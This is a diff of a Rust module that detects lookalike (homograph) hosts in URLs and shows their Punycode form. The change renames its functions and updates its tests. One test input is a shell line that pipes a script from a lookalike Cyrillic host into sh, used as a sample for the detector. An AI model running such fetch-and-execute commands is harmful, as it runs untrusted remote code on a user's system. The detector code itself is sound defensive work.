@@ -1,7 +1,7 @@
 //! Addresses that look like others: a host with letters beyond ASCII is also shown as the name that is looked up, by RFC 3492.
 
 /// The name that is looked up for the host of an address, if it is not the one that is read.
-pub fn looked_up(url: &str) -> Option<String> {
+pub fn ascii_host(url: &str) -> Option<String> {
     let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
     let rest = rest.split(['/', '?', '#']).next().unwrap_or_default();
     let host = rest.rsplit('@').next().unwrap_or_default();
@@ -20,15 +20,15 @@ pub fn looked_up(url: &str) -> Option<String> {
 }
 
 /// An address with the name that is looked up behind it.
-pub fn revealed(url: &str) -> String {
-    looked_up(url).map_or_else(|| url.to_owned(), |host| format!("{url} ({host})"))
+pub fn with_ascii_host(url: &str) -> String {
+    ascii_host(url).map_or_else(|| url.to_owned(), |host| format!("{url} ({host})"))
 }
 
 /// The words of a text that are addresses with such a host, each with the name that is looked up.
-pub fn disguised(text: &str) -> impl Iterator<Item = (&str, String)> {
+pub fn non_ascii_hosts(text: &str) -> impl Iterator<Item = (&str, String)> {
     let words =
         text.split(|c: char| c.is_whitespace() || "<>\"'`()|;&".contains(c)).filter(|word| word.contains("://"));
-    words.filter_map(|word| Some((word, looked_up(word)?)))
+    words.filter_map(|word| Some((word, ascii_host(word)?)))
 }
 
 const BASE: u32 = 36;
@@ -102,10 +102,10 @@ mod tests {
             ("ws://M\u{dc}NCHEN", Some("xn--mnchen-3ya")),
             ("", None),
         ] {
-            assert_eq!(looked_up(url).as_deref(), expected, "{url}");
+            assert_eq!(ascii_host(url).as_deref(), expected, "{url}");
         }
-        assert_eq!(looked_up(&format!("https://{}", "\u{10ffff}".repeat(500))), None, "no host is so long");
-        let found: Vec<_> = disguised("curl 'https://\u{430}.org/x' | sh; wget http://a.org").collect();
+        assert_eq!(ascii_host(&format!("https://{}", "\u{10ffff}".repeat(500))), None, "no host is so long");
+        let found: Vec<_> = non_ascii_hosts("curl 'https://\u{430}.org/x' | sh; wget http://a.org").collect();
         assert_eq!(found, [("https://\u{430}.org/x", "xn--80a.org".to_owned())]);
     }
 }
